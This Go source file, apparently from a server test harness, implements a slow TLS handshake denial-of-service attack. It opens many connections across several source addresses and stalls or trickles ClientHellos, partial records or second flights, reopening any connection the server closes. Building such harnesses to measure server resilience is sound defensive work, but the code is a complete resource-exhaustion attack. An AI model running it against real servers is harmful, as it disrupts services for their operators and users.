package adversary

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// Stall holds TLS handshakes open without finishing them: each connection
// sends a complete ClientHello and then nothing (Trickle 0), or sends its
// ClientHello one byte per Trickle. It reads whatever the server sends, so
// the server's flight never blocks on it, and notices when the server
// closes it.
type Stall struct {
	Target  Target
	Sources []netip.Addr // connections go round-robin over these
	Conns   int
	// Trickle, when positive, is the pause between single bytes.
	Trickle time.Duration
	// TrickleAfterHello (with Trickle) sends the ClientHello at once and
	// only the client's second flight (certificate, CertificateVerify,
	// Finished) one byte per Trickle: a handshake that keeps making a
	// little progress.
	TrickleAfterHello bool
	// Silent connections send nothing at all: not even a ClientHello, so
	// the server has no handshake to bound, only a connection.
	Silent bool
	// Partial, when positive, makes each connection send the header of
	// a handshake record as long as TLS allows (16 KiB) and this many
	// bytes of it, then nothing: the server has no handshake to bound,
	// only a connection and the bytes it must keep until the record is
	// whole (the most a connection holds before its handshake starts).
	Partial int
	// Hold reopens every connection the server closes, so the attack keeps
	// Conns connections (or tries to) until it is stopped.
	Hold bool
	// Dialers bounds concurrent connects while opening; 0 means 64.
	Dialers int
}

// StallStats are the attack's counters so far.
type StallStats struct {
	Open           int64 // connections open now
	Stalled        int64 // open connections whose whole ClientHello is out (Silent: all open ones; Partial: whose partial record is out)
	Opened         int64 // connects that succeeded, in total
	HelloSent      int64 // connections whose whole ClientHello was written
	ClosedByServer int64 // connections the server closed (EOF or reset)
	DialErrors     int64
}

// StallRun is a running Stall; Stop ends it.
type StallRun struct {
	cancel context.CancelFunc
	wg     sync.WaitGroup
	hello  []byte
	cfg    Stall
	sem    chan struct{}

	open, stalled, opened, helloSent, closed, dialErrs atomic.Int64
	firstClose                                         atomic.Int64 // unix nanos of the first server close, 0 if none
}

// captureHello returns the ClientHello record crypto/tls sends for cfg.
// Every stalled connection sends the same bytes: the server pays for a
// full key exchange and signature on each, the attacker for one write.
func captureHello(cfg *tls.Config) ([]byte, error) {
	cc := cfg.Clone()
	if cc.ServerName == "" {
		cc.ServerName = "localhost"
	}
	c := &captureConn{closed: make(chan struct{})}
	_ = tls.Client(c, cc).Handshake() // fails once captureConn closes
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.buf) < 5 || c.buf[0] != recordTypeHandshake {
		return nil, errors.New("adversary: no ClientHello captured")
	}
	return c.buf, nil
}

// captureConn keeps what crypto/tls writes and closes after the first
// write, so the handshake returns at once.
type captureConn struct {
	mu     sync.Mutex
	buf    []byte
	once   sync.Once
	closed chan struct{}
}

func (c *captureConn) Write(b []byte) (int, error) {
	c.mu.Lock()
	c.buf = append(c.buf, b...)
	c.mu.Unlock()
	c.once.Do(func() { close(c.closed) })
	return len(b), nil
}

func (c *captureConn) Read([]byte) (int, error)         { <-c.closed; return 0, io.EOF }
func (c *captureConn) Close() error                     { c.once.Do(func() { close(c.closed) }); return nil }
func (c *captureConn) LocalAddr() net.Addr              { return &net.TCPAddr{} }
func (c *captureConn) RemoteAddr() net.Addr             { return &net.TCPAddr{} }
func (c *captureConn) SetDeadline(time.Time) error      { return nil }
func (c *captureConn) SetReadDeadline(time.Time) error  { return nil }
func (c *captureConn) SetWriteDeadline(time.Time) error { return nil }

// Start opens the connections in the background and returns at once.
func (s Stall) Start(ctx context.Context) (*StallRun, error) {
	if err := s.Target.check(); err != nil {
		return nil, err
	}
	if s.Conns <= 0 || len(s.Sources) == 0 {
		return nil, fmt.Errorf("adversary: stall needs connections (%d) and sources (%d)", s.Conns, len(s.Sources))
	}
	if s.Dialers <= 0 {
		s.Dialers = 64
	}
	if s.Partial >= maxPlaintext {
		return nil, fmt.Errorf("adversary: a partial record is shorter than %d bytes, not %d", maxPlaintext, s.Partial)
	}
	hello, err := captureHello(s.Target.TLS)
	if err != nil {
		return nil, err
	}
	if s.Partial > 0 {
		// A record header announcing the longest record, then the start
		// of a ClientHello and filler: the first bytes pass for TLS.
		hello = append([]byte{recordTypeHandshake, 3, 1, maxPlaintext >> 8, maxPlaintext & 0xff}, hello[5:min(len(hello), 5+s.Partial)]...)
		hello = append(hello, make([]byte, 5+s.Partial-len(hello))...)
	}
	ctx, cancel := context.WithCancel(ctx)
	r := &StallRun{cancel: cancel, hello: hello, cfg: s, sem: make(chan struct{}, s.Dialers)}
	for i := range s.Conns {
		r.wg.Add(1)
		go func() {
			defer r.wg.Done()
			r.slot(ctx, s.Sources[i%len(s.Sources)])
		}()
	}
	return r, nil
}

// slot keeps one stalled connection (reopening it when Hold is set).
func (r *StallRun) slot(ctx context.Context, src netip.Addr) {
	for ctx.Err() == nil {
		byServer := r.once(ctx, src)
		if !r.cfg.Hold {
			return
		}
		if byServer {
			// The server refused or shed us; come back soon, but do not
			// spin on a server that closes at once.
			select {
			case <-ctx.Done():
			case <-time.After(20 * time.Millisecond):
			}
		}
	}
}

// once runs one connection; it reports whether the server ended it.
func (r *StallRun) once(ctx context.Context, src netip.Addr) bool {
	select {
	case r.sem <- struct{}{}:
	case <-ctx.Done():
		return false
	}
	c, err := dialFrom(ctx, src, r.cfg.Target.Addr, 0)
	<-r.sem
	if err != nil {
		r.dialErrs.Add(1)
		return true
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	r.opened.Add(1)
	r.open.Add(1)
	defer r.open.Add(-1)

	buf := make([]byte, 512)
	pending := r.hello
	helloDone := false
	if r.cfg.TrickleAfterHello && r.cfg.Trickle > 0 {
		flight, err := r.bufferedHandshake(ctx, c)
		if err != nil {
			return r.serverClosed(ctx)
		}
		pending, helloDone = flight, true
		r.helloSent.Add(1)
		r.stalled.Add(1)
		defer r.stalled.Add(-1)
	} else if r.cfg.Silent {
		pending = nil
		r.stalled.Add(1)
		defer r.stalled.Add(-1)
	} else if r.cfg.Trickle <= 0 {
		if _, err := c.Write(pending); err != nil {
			return r.serverClosed(ctx)
		}
		pending = nil
		r.helloSent.Add(1)
		r.stalled.Add(1)
		defer r.stalled.Add(-1)
	}
	for {
		if len(pending) > 0 {
			if _, err := c.Write(pending[:1]); err != nil {
				return r.serverClosed(ctx)
			}
			if pending = pending[1:]; len(pending) == 0 && !helloDone {
				r.helloSent.Add(1)
				r.stalled.Add(1)
				defer r.stalled.Add(-1)
			}
			_ = c.SetReadDeadline(time.Now().Add(r.cfg.Trickle))
		} else {
			_ = c.SetReadDeadline(time.Time{})
		}
		_, err := c.Read(buf)
		if err != nil {
			if errors.Is(err, os.ErrDeadlineExceeded) && ctx.Err() == nil {
				continue // time for the next byte
			}
			return r.serverClosed(ctx)
		}
	}
}

// bufferedHandshake runs crypto/tls's client handshake over c, except that
// everything after the ClientHello is kept instead of sent; it returns
// those bytes (the client's second flight) once the client is done.
func (r *StallRun) bufferedHandshake(ctx context.Context, c *net.TCPConn) ([]byte, error) {
	cc := r.cfg.Target.TLS.Clone()
	if cc.ServerName == "" {
		cc.ServerName = "localhost"
	}
	hc := &holdConn{TCPConn: c}
	_ = c.SetDeadline(time.Now().Add(dialTimeout))
	defer c.SetDeadline(time.Time{})
	if err := tls.Client(hc, cc).HandshakeContext(ctx); err != nil {
		return nil, err
	}
	return hc.held, nil
}

// holdConn sends its first write and keeps the rest.
type holdConn struct {
	*net.TCPConn
	sent bool
	held []byte
}

func (h *holdConn) Write(b []byte) (int, error) {
	if !h.sent {
		h.sent = true
		return h.TCPConn.Write(b)
	}
	h.held = append(h.held, b...)
	return len(b), nil
}

func (r *StallRun) serverClosed(ctx context.Context) bool {
	if ctx.Err() != nil {
		return false // we closed it
	}
	r.closed.Add(1)
	r.firstClose.CompareAndSwap(0, time.Now().UnixNano())
	return true
}

// Stats reads the counters.
func (r *StallRun) Stats() StallStats {
	return StallStats{
		Open: r.open.Load(), Stalled: r.stalled.Load(), Opened: r.opened.Load(), HelloSent: r.helloSent.Load(),
		ClosedByServer: r.closed.Load(), DialErrors: r.dialErrs.Load(),
	}
}

// FirstServerClose is when the server first closed one of the
// connections (zero if it never did).
func (r *StallRun) FirstServerClose() time.Time {
	if n := r.firstClose.Load(); n != 0 {
		return time.Unix(0, n)
	}
	return time.Time{}
}

// WaitSent waits until n ClientHellos have been written in full (or ctx
// ends, or d passes), and reports the stats then.
func (r *StallRun) WaitSent(ctx context.Context, n int64, d time.Duration) (StallStats, error) {
	deadline := time.Now().Add(d)
	for {
		st := r.Stats()
		if st.HelloSent >= n {
			return st, nil
		}
		if time.Now().After(deadline) || ctx.Err() != nil {
			return st, fmt.Errorf("adversary: %d of %d ClientHellos sent after %s: %+v", st.HelloSent, n, d, st)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// WaitHeld waits until n connections are open with their whole
// ClientHello sent, at once.
func (r *StallRun) WaitHeld(ctx context.Context, n int64, d time.Duration) (StallStats, error) {
	deadline := time.Now().Add(d)
	for {
		st := r.Stats()
		if st.Stalled >= n {
			return st, nil
		}
		if time.Now().After(deadline) || ctx.Err() != nil {
			return st, fmt.Errorf("adversary: %d of %d connections stalled after %s: %+v", st.Stalled, n, d, st)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// WaitOpen waits until n connections are open at once.
func (r *StallRun) WaitOpen(ctx context.Context, n int64, d time.Duration) (StallStats, error) {
	deadline := time.Now().Add(d)
	for {
		st := r.Stats()
		if st.Open >= n {
			return st, nil
		}
		if time.Now().After(deadline) || ctx.Err() != nil {
			return st, fmt.Errorf("adversary: %d of %d connections open after %s: %+v", st.Open, n, d, st)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// Stop closes every connection and waits for the attack to end.
func (r *StallRun) Stop() {
	r.cancel()
	r.wg.Wait()
}
